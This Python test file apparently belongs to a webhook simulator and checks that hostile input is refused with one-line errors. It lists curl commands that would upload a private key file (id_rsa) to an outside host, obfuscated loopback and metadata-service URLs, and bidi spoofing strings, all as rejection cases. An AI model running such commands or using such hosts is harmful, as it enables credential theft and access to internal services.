"""Hostile input, round 2 (issue 11, items 2, 10, 15, 16, 18, 20, 22): every class ends in one
clear line naming the field, nothing is recorded, and nothing a capture names is ever read.

Sends go to real servers on 127.0.0.1 (the embedded receiver, a TLS server made with trustme);
an international host name is sent to 127.0.0.1 by a resolver function, a supported option.
"""

from __future__ import annotations

import dataclasses
import http.server
import io
import json
import ssl
import threading

import pytest
import trustme

from simlib import DeliveryConfig, Simulator, ValidationError, production_check
from simlib.cli import main
from simlib.core.events import MAX_NESTING, parse_override
from simlib.core.payload import serialize
from simlib.core.validation import legacy_ipv4, validate_name, validate_url
from simlib.errors import OverrideError, UnknownEventError
from simlib.receiver import Receiver
from simlib.records import Preview
from simlib.toolkit.capture import Capture, parse_capture
from tests.helpers import ACT, APP

README_CASES = {
    "capture-local-file",
    "capture-data-raw-at",
    "capture-deep-json",
    "override-deep",
    "override-surrogate",
    "override-unserialisable",
    "url-idn",
    "url-idn-invalid",
    "url-legacy-ipv4",
    "url-ends-in-number",
    "url-host-chars",
    "url-host-too-long",
    "url-label-too-long",
    "url-percent-host",
    "url-zone-id",
    "url-empty-label",
    "url-bidi",
    "url-invisible",
    "url-surrogate",
    "name-bidi",
    "name-surrogate",
    "filter-surrogate",
    "id-huge",
    "event-huge",
    "production-numeric-host",
}

SECRET = "hostile-input-secret-0123456789"
LEAK = "TOP-SECRET-d41d8cd98f00b204e9800998ecf8427e"  # what the file a capture names holds
OK = {"name": "ok", "url": "http://127.0.0.1:9/hook", "events": [APP]}


def one_line(exc: BaseException, field: str) -> str:
    text = str(exc)
    assert isinstance(exc, ValidationError) and exc.field == field, (type(exc), text)
    assert text.startswith(field + ":") and "\n" not in text and "\r" not in text and len(text) < 400, text
    return text


# -- item 2: a capture never makes simlib read a local file ----------------------------------------


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "id_rsa"
    path.write_text(f'{{"event":"{ACT}","data":{{"leak":"{LEAK}"}}}}\n')
    return path


def _file_commands(path) -> list[str]:
    rel = f"../{path.parent.name}/{path.name}"
    url = "https://hooks.example.com/tp"
    return [
        f"curl {url} -H 'content-type: application/json' -d @{path}",
        f"curl {url} -H 'content-type: application/json' -d @{rel}",
        f"curl {url} -H 'content-type: application/json' -d@{path}",
        f"curl {url} -H 'content-type: application/json' -sSd @{path}",
        f"curl {url} -H 'content-type: application/json' --data @{path}",
        f"curl {url} -H 'content-type: application/json' --data-binary @{path}",
        f"curl {url} -H 'content-type: application/json' --data-ascii @{path}",
        f"curl {url} --json @{path}",
        f"curl {url} -H @{path} --data-raw '{{}}'",
        f"curl {url} -T {path}",
        f"curl {url} --upload-file {path}",
        f"curl {url} -K {path}",
        f"curl {url} --config {path}",
        f"curl {url} --variable leak@{path} --expand-data '{{{{leak}}}}'",
        f"curl {url} --data-urlencode @{path}",
        f"curl {url} --data-urlencode leak@{path}",
        f"curl {url} -F file=@{path}",
        f"curl {url} -F 'file=<{path}'",
        f"curl {url} -H 'a: b' -d @- < {path}",
    ]


def test_curl_options_that_read_files_are_refused_in_one_line(secret_file):
    for command in _file_commands(secret_file):
        with pytest.raises(ValidationError) as info:
            parse_capture(command)
        text = one_line(info.value, "capture")
        assert LEAK not in text, command
        assert "file" in text or "stdin" in text or "multipart" in text, (command, text)


def test_import_of_a_capture_naming_a_file_sends_and_records_nothing(sim, secret_file, tmp_path, capsys):
    with Receiver(SECRET) as rx:
        wh = sim.create_webhook("Customer", rx.url, [ACT], secret=SECRET, id="customer")
        for command in _file_commands(secret_file):
            with pytest.raises(ValidationError):
                sim.import_delivery(command, wh)
            capture = tmp_path / "capture.sh"  # next to the secret: a relative @name would find it
            capture.write_text(command.replace(str(secret_file), secret_file.name) + "\n")
            code = main(["--store", str(sim.store.path), "import", str(capture), "--webhook", wh.id])
            out, err = capsys.readouterr()
            assert code == 2 and out == "" and err.count("\n") == 1, (command, out, err)
            assert LEAK not in out + err
        assert rx.count == 0
    assert len(sim.history()) == 0


def test_data_raw_is_literal_and_the_named_file_never_appears_anywhere(sim, secret_file):
    body = f'{{"event":"{ACT}","data":"@{secret_file}"}}'
    cap = parse_capture(f"curl https://h.example/tp -H 'content-type: application/json' --data-raw '{body}'")
    assert cap.body == body.encode()
    assert parse_capture(f"curl https://h.example/tp --data-raw @{secret_file}").body == f"@{secret_file}".encode()
    with Receiver(SECRET) as rx:
        wh = sim.create_webhook("Customer", rx.url, [ACT], secret=SECRET)
        imp = sim.import_delivery(cap, wh)
        (req,) = rx.wait_for(1)
    assert imp.resigned.delivered and req.body == body.encode()
    seen = [req.body.decode(), json.dumps(imp.resigned.to_dict(), default=str), sim.history().to_csv()]
    assert all(LEAK not in text for text in seen)


def test_piped_printf_body_still_works_without_reading_anything():
    cap = parse_capture("BODY='{\"event\":\"x.y\"}'\nprintf '%s' \"$BODY\" | curl -X POST https://h.example/ -H 'a: b' --data-binary @-")
    assert cap.body == b'{"event":"x.y"}'


def test_curl_json_option_sets_its_headers():
    cap = parse_capture("curl https://h.example/ --json '{\"a\":1}'")
    assert cap.body == b'{"a":1}' and cap.header("content-type") == "application/json"


# -- item 10: nesting never reaches a RecursionError -------------------------------------------------


def _nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize("depth", [MAX_NESTING + 1, 1_000, 5_000, 200_000])
def test_deep_override_text_is_one_override_error(depth):
    with pytest.raises(OverrideError) as info:
        parse_override("data.0.tracking.app.name=" + "[" * depth + "]" * depth)
    assert "nested too deeply" in one_line(info.value, "override")


@pytest.mark.parametrize("depth", [MAX_NESTING, 3_000])
def test_deep_override_values_from_the_api_are_refused(sim, depth):
    wh = sim.create_webhook(**OK)
    with pytest.raises(OverrideError) as info:
        sim.preview(wh, APP, overrides={"data.0.tracking.app.name": _nested(depth)})
    assert "nested too deeply" in one_line(info.value, "override")
    cycle: list = []
    cycle.append(cycle)
    with pytest.raises(OverrideError):
        sim.simulate(wh, APP, overrides={"data.0.tracking.app.name": cycle})
    assert len(sim.history()) == 0


def test_the_deepest_allowed_override_previews_pretty_prints_and_sends(sim, receiver):
    wh = sim.create_webhook("deep", receiver.url, [APP])
    p = sim.preview(wh, APP, overrides={"data.0.tracking.app.name": _nested(MAX_NESTING - 6)})
    assert json.loads(p.pretty) == json.loads(p.body)
    assert sim.send(p).delivered


def test_serialize_refuses_deep_and_unserialisable_payloads():
    for payload, says in ((_nested(50_000), "nested too deeply"), ({"a": {1, 2}}, "not JSON serializable"),
                          ({"a": float("nan")}, "Out of range"), ({"a": 10**400}, "Out of range")):
        with pytest.raises(ValidationError) as info:
            serialize(payload)
        assert says in one_line(info.value, "payload")
    # A lone surrogate has no UTF-8 form: Node's JSON.stringify (and simlib) write it as an escape.
    assert serialize({"a": "\ud800"}) == b'{"a":"\\ud800"}'


def test_override_values_with_lone_surrogates_or_no_json_form_are_refused(sim):
    wh = sim.create_webhook(**OK)
    with pytest.raises(OverrideError) as info:
        sim.preview(wh, APP, overrides={"data.0.tracking.app.name": "Zo\ud800"})
    assert "lone surrogate" in one_line(info.value, "override")
    with pytest.raises(OverrideError):
        sim.preview(wh, APP, overrides=['data.0.tracking.app.name="\\ud800"'])  # a JSON escape
    with pytest.raises(ValidationError) as info:
        sim.preview(wh, APP, overrides={"data.0.tracking.app.name": object()})
    assert "not JSON serializable" in one_line(info.value, "payload")


def test_deep_json_captures_and_bodies_are_read_without_recursing(sim, receiver):
    deep = "[" * 100_000 + "]" * 100_000
    with pytest.raises(ValidationError) as info:
        parse_capture(deep)
    one_line(info.value, "capture")
    with pytest.raises(ValidationError):
        parse_capture('{"headers": "' + "[" * 5000 + '", "body": "x"}')
    view = Capture((("a", "b"),), deep.encode())
    assert view.json is None and view.event_type is None
    wh = sim.create_webhook("deep", receiver.url, [ACT], secret=SECRET)
    explanation = sim.explain_signature([("x-webhook-signature", "0" * 64), ("x-webhook-timestamp", "1")],
                                        deep.encode(), webhook=wh)
    assert not explanation.valid
    # A body that parses (700 levels) but that overrides could not make sendable: one line.
    body = json.dumps({"event": ACT, "data": _nested(700)}, separators=(",", ":")).encode()
    imp = sim.import_delivery(Capture((("content-type", "application/json"),), body), wh)
    assert imp.resigned.delivered and receiver.requests[-1].body == body
    with pytest.raises(ValidationError) as info:
        sim.replay(imp.resigned.history_id, overrides={"event": ACT})
    assert "nested too deeply" in one_line(info.value, "payload")


def test_cli_set_with_deep_json_is_one_line_and_exit_2(sim, capsys):
    wh = sim.create_webhook(**OK)
    value = "[" * 5000 + "]" * 5000
    code = main(["--store", str(sim.store.path), "send", wh.id, APP, "--set", f"data.0.tracking.app.name={value}"])
    out, err = capsys.readouterr()
    assert code == 2 and err.count("\n") == 1 and "nested too deeply" in err, (out, err[:300])
    assert len(sim.history()) == 0


# -- item 15: international host names are sent as their A-label -------------------------------------


def test_idn_url_is_stored_as_the_a_label_and_sent_with_it(tmp_path, receiver):
    asked = []

    def resolver(host, port):
        asked.append(host)
        return ["127.0.0.1"]

    with Simulator(tmp_path / "s.db", delivery=DeliveryConfig(resolver=resolver, deadline=5)) as sim:
        wh = sim.create_webhook("idn", f"http://BÜCHER.example:{receiver.port}/hook?q=ü", [APP])
        assert wh.url == f"http://xn--bcher-kva.example:{receiver.port}/hook?q=ü"
        r = sim.simulate(wh, APP)
    assert r.delivered, r.detail
    assert asked == ["xn--bcher-kva.example"]
    (req,) = receiver.requests
    assert req.header("host") == f"xn--bcher-kva.example:{receiver.port}"


def test_a_stored_unicode_url_from_before_is_sent_with_the_a_label(tmp_path, receiver):
    with Simulator(tmp_path / "s.db", delivery=DeliveryConfig(resolver=lambda h, p: ["127.0.0.1"], deadline=5)) as sim:
        wh = sim.create_webhook("old", receiver.url, [APP])
        sim.store.replace_webhook(dataclasses.replace(wh, url=f"http://bücher.example:{receiver.port}/hook"))
        r = sim.simulate(wh.id, APP)
    assert r.delivered, r.detail
    assert receiver.requests[0].header("host") == f"xn--bcher-kva.example:{receiver.port}"


class _Ack(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.send_response(200)
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args):
        pass


def test_idn_over_tls_uses_the_a_label_for_sni_and_the_certificate(tmp_path):
    ca = trustme.CA()
    cert = ca.issue_cert("xn--bcher-kva.example")
    names: list[str | None] = []
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Ack)
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    cert.configure_cert(ctx)
    ctx.sni_callback = lambda sock, name, c: names.append(name)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        with ca.cert_pem.tempfile() as bundle:
            config = DeliveryConfig(resolver=lambda h, p: ["127.0.0.1"], ca_bundle=bundle, deadline=5)
            with Simulator(tmp_path / "s.db", delivery=config) as sim:
                wh = sim.create_webhook("tls", f"https://bücher.example:{srv.server_address[1]}/hook", [APP])
                r = sim.simulate(wh, APP)
    finally:
        srv.shutdown()
        srv.server_close()
    assert r.delivered, r.detail
    assert names == ["xn--bcher-kva.example"]


# -- items 15, 18: hosts that could never be sent to are refused at validation ----------------------

URL_CASES = {
    "url-idn-invalid": ["http://xn--abc--.example/", "http://xn--zz.example/", "http://xn--n3h.net/",
                        "http://bü_cher.example/", "http://☃.net/"],
    "url-legacy-ipv4": ["http://0177.0.0.1/", "http://0x7f.1/", "http://0x7f000001/", "http://2130706433/",
                        "http://127.1/", "http://10.1/", "http://0/", "http://127.0.0.1./", "http://127.000.000.001/",
                        "http://017700000001/", "http://１２７.0.0.1/"],
    "url-ends-in-number": ["http://example.123/", "http://1.2.3.4.5/", "http://256.1.1.1/", "http://example.0x1/"],
    "url-host-chars": ["http://exa;mple.com/", "http://exa!mple.com/", "http://exa*mple.com/", "http://a'b.com/",
                       "http://exa(mple).com/", "http://exa\\mple.com/"],
    "url-host-too-long": ["http://" + ".".join(["a" * 60] * 5) + "/"],
    "url-label-too-long": ["http://" + "a" * 64 + ".com/"],
    "url-percent-host": ["http://exa%6dple.com/", "http://%31%32%37.0.0.1/"],
    "url-zone-id": ["http://[fe80::1%25eth0]/"],
    "url-empty-label": ["http://a..b/", "http://.example.com/"],
    "url-bidi": ["http://example.com/\u202egnp.exe", "http://example.com/\u2066x\u2069", "http://example.com/\u200f"],
    "url-invisible": ["http://example.com/a\u2028b", "http://example.com/a\u2029b", "http://example.com/a\u200bb",
                      "http://example.com/\ufeff", "http://example.com/a\u00a0b", "http://example.com/a\u0085b",
                      "http://example.com/\U000e0041"],
    "url-surrogate": ["http://example.com/\ud800", "http://ex\udcffample.com/"],
}


#: What each class's message says (its README row shows the message).
URL_SAYS = {
    "url-idn-invalid": "not a valid international domain name|invalid A-label", "url-legacy-ipv4": "non-standard form",
    "url-ends-in-number": "ends in a number", "url-host-chars": "a host name has letters", "url-host-too-long": "at most 253",
    "url-label-too-long": "at most 63", "url-percent-host": "percent-encoded", "url-zone-id": "zone id",
    "url-empty-label": "empty label", "url-bidi": "invisible, format or control", "url-invisible": "invisible, format or control",
    "url-surrogate": "is not valid Unicode text",
}


@pytest.mark.parametrize("case, url", [(c, u) for c, urls in URL_CASES.items() for u in urls])
def test_urls_that_cannot_be_sent_are_refused_with_a_field_error(sim, case, url):
    import re

    with pytest.raises(ValidationError) as info:
        sim.create_webhook(**{**OK, "url": url})
    assert re.search(URL_SAYS[case], one_line(info.value, "url")), str(info.value)
    wh = sim.create_webhook(**OK)
    with pytest.raises(ValidationError):
        sim.update_webhook(wh, url=url)
    assert sim.list_webhooks() == [wh]


def test_legacy_ipv4_messages_say_which_address_is_meant():
    with pytest.raises(ValidationError, match=r"'0x7f\.1' is a non-standard form of the IPv4 address 127\.0\.0\.1.*write 127\.0\.0\.1"):
        validate_url("http://0x7f.1/")
    assert str(legacy_ipv4("0177.0.0.1")) == "127.0.0.1" and str(legacy_ipv4("10.1")) == "10.0.0.1"
    assert str(legacy_ipv4("0")) == "0.0.0.0" and legacy_ipv4("1.2.3.4.5") is None and legacy_ipv4("0x100000000") is None


@pytest.mark.parametrize("url", ["http://127.0.0.1:8787/h", "http://[::1]:80/", "http://foo_bar:80/", "http://localhost./",
                                 "https://example.com./x", "http://xn--bcher-kva.example/", "http://my-host.internal/",
                                 "https://example.com/ü?ä=ö#ß", "http://" + ".".join(["a" * 63] * 3) + ".com/"])
def test_hosts_that_can_be_sent_to_still_pass_unchanged(url):
    assert validate_url(url) == url


# -- items 16, 18: names and every other text field ---------------------------------------------------


@pytest.mark.parametrize("name, case", [
    ("Prod \u202eevil", "name-bidi"), ("a\u2066b\u2069", "name-bidi"), ("x\u200fy", "name-bidi"),
    ("x\u061cy", "name-bidi"), ("x\u200by", "name-bidi"), ("x\ufeffy", "name-bidi"), ("x\u2028y", "name-bidi"),
    ("x\U000e0041y", "name-bidi"), ("x\u00ady", "name-bidi"),
    ("Zo\ud800", "name-surrogate"), ("\udcff\udcfe", "name-surrogate"),
])
def test_names_with_invisible_or_invalid_characters_are_refused(sim, name, case):
    with pytest.raises(ValidationError) as info:
        sim.create_webhook(**{**OK, "name": name})
    says = "is not valid Unicode text" if case == "name-surrogate" else "invisible, format or control"
    assert says in one_line(info.value, "name")
    assert sim.list_webhooks() == []


@pytest.mark.parametrize("name", ["👨\u200d👩\u200d👧 team", "می\u200cخواهم", "עברית", "Zoë\u00a0&\u3000Co"])
def test_names_in_any_script_still_pass(name):
    assert validate_name(name) == name


def test_lone_surrogates_in_any_field_are_field_errors_not_unicode_errors(sim):
    wh = sim.create_webhook(**OK, secret=SECRET)
    calls = [
        ("name", lambda: sim.update_webhook(wh, name="x\ud800")),
        ("url", lambda: sim.update_webhook(wh, url="http://example.com/\ud800")),
        ("secret", lambda: sim.update_webhook(wh, secret="long-enough-\ud800")),
        ("secret", lambda: sim.rotate_secret(wh, new_secret="long-enough-\ud800")),
        ("id", lambda: sim.create_webhook(**OK, id="a\ud800")),
        ("webhook", lambda: sim.get_webhook("wh_\ud800")),
        ("webhook", lambda: sim.simulate("wh_\ud800", APP)),
        ("events", lambda: sim.create_webhook(**{**OK, "events": ["desktop.\ud800.captured"]})),
        ("event", lambda: sim.preview(wh, "desktop.\ud800.captured")),
        ("override", lambda: sim.preview(wh, APP, overrides={"data.\ud800": 1})),
        ("override", lambda: sim.preview(wh, APP, overrides={"data.0.tracking.app": {"\ud800": 1}})),
        ("webhook", lambda: sim.history(webhook="wh_\ud800")),
        ("event_type", lambda: sim.history(event_type=["\ud800"])),
        ("result", lambda: sim.history(result="\ud800")),
    ]
    for field, call in calls:
        with pytest.raises(ValidationError) as info:
            call()
        one_line(info.value, field)
    assert sim.get_webhook(wh.id) == wh and len(sim.history()) == 0


def test_history_filters_with_lone_surrogates_are_field_errors(sim):
    with pytest.raises(ValidationError) as info:
        sim.history(webhook=["wh_ok", "wh_\udcff"])
    one_line(info.value, "webhook")


# -- item 22: an id or event name that cannot be one is refused before anything is recorded ----------


def test_a_huge_webhook_id_is_refused_and_never_recorded(sim, receiver, capsys):
    wh = sim.create_webhook("t", receiver.url, [APP], id="target")
    huge = "x" * 100_000
    for call in (lambda: sim.simulate(huge, APP), lambda: sim.preview(huge, APP), lambda: sim.get_webhook(huge),
                 lambda: sim.delete_webhook(huge), lambda: sim.send_many(huge, APP, 3, progress=False)):
        with pytest.raises(ValidationError) as info:
            call()
        one_line(info.value, "webhook")
    forged = dataclasses.replace(sim.preview(wh, APP), webhook_id=huge)
    assert isinstance(forged, Preview)
    with pytest.raises(ValidationError):
        sim.send(forged)
    with pytest.raises(ValidationError):
        sim.send_many(huge, APP, 3, preview=forged, progress=False)
    code = main(["--store", str(sim.store.path), "send", huge, APP])
    out, err = capsys.readouterr()
    assert code == 2 and err.count("\n") == 1 and len(out + err) < 400
    assert len(sim.history()) == 0 and receiver.count == 0


def test_a_huge_event_name_is_refused_and_never_recorded(sim, receiver):
    sim.create_webhook("t", receiver.url, [APP], id="target")
    huge = "desktop." + "x" * 100_000
    for call in (lambda: sim.simulate("wh_gone", huge), lambda: sim.simulate("target", huge),
                 lambda: sim.send_many("target", huge, 2, progress=False)):
        with pytest.raises(UnknownEventError) as info:
            call()
        assert "100008 characters" in one_line(info.value, "event")
    forged = dataclasses.replace(sim.preview("target", APP), event_type=huge)
    with pytest.raises(UnknownEventError):
        sim.send(forged)
    assert len(sim.history()) == 0 and receiver.count == 0


def test_well_formed_but_unknown_ids_still_end_as_recorded_results(sim):
    r = sim.simulate("wh_nope", APP)
    assert r.error == "Webhook not found" and len(sim.history()) == 1


# -- item 20: production_check reads the host the way Trackpilots (Node, WHATWG URL) does -------------


@pytest.mark.parametrize("url, says", [
    ("https://2130706433/", "127.0.0.1"), ("https://0x7f.1/", "loopback"), ("https://127.1/", "loopback"),
    ("https://0177.0.0.1/", "loopback"), ("https://localhost./", "localhost"), ("https://LOCALHOST/", "localhost"),
    ("https://10.1/", "private"), ("https://0/", "this network"), ("https://%6c%6f%63alhost/", "localhost"),
    ("https://127.0.0.%31/", "loopback"), ("https://%31%30.0.0.1/", "private"), ("https://[::ffff:0:127.0.0.1]/", "loopback"),
    ("https://[::ffff:127.0.0.1]/", "loopback"), ("https://169.254.169.254/", "link-local"),
    ("https://[2001:2::1]/", "benchmarking"), ("https://１２７.0.0.1/", "loopback"), ("https://intranet/", "single-label"),
    ("https://api.internal/", "special-use"), ("https://printer.local/", "special-use"), ("https://x.test/", "special-use"),
])
def test_production_check_normalises_the_host_before_judging(url, says):
    check = production_check(url)
    assert not check.ok and any(says in r for r in check.reasons), check.reasons


@pytest.mark.parametrize("url", ["https://example.com/", "https://xn--bcher-kva.de/", "https://bücher.de/", "https://8.8.8.8/",
                                 "https://[2001:4860:4860::8888]/", "https://EXAMPLE.com./x"])
def test_production_check_still_accepts_public_https(url):
    assert production_check(url).ok, production_check(url).reasons


def test_the_cli_shows_the_normalised_reason(sim):
    wh = sim.create_webhook("local", "https://127.0.0.1:8443/x", [APP])
    out = io.StringIO()
    assert main(["--store", str(sim.store.path), "webhooks", "show", wh.id], stdout=out) == 0
    assert "loopback" in out.getvalue()


def test_an_imported_capture_with_unsendable_header_bytes_is_refused_before_sending(sim, receiver):
    wh = sim.create_webhook("t", receiver.url, [ACT], secret=SECRET)
    body = f'{{"event":"{ACT}"}}'.encode()
    raw = b"POST /h HTTP/1.1\r\nHost: x.example\r\nX-Note: Zo\xeb\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    with pytest.raises(ValidationError) as info:
        sim.import_delivery(raw, wh)
    assert "cannot be sent" in one_line(info.value, "capture")
    assert receiver.count == 0 and len(sim.history()) == 0
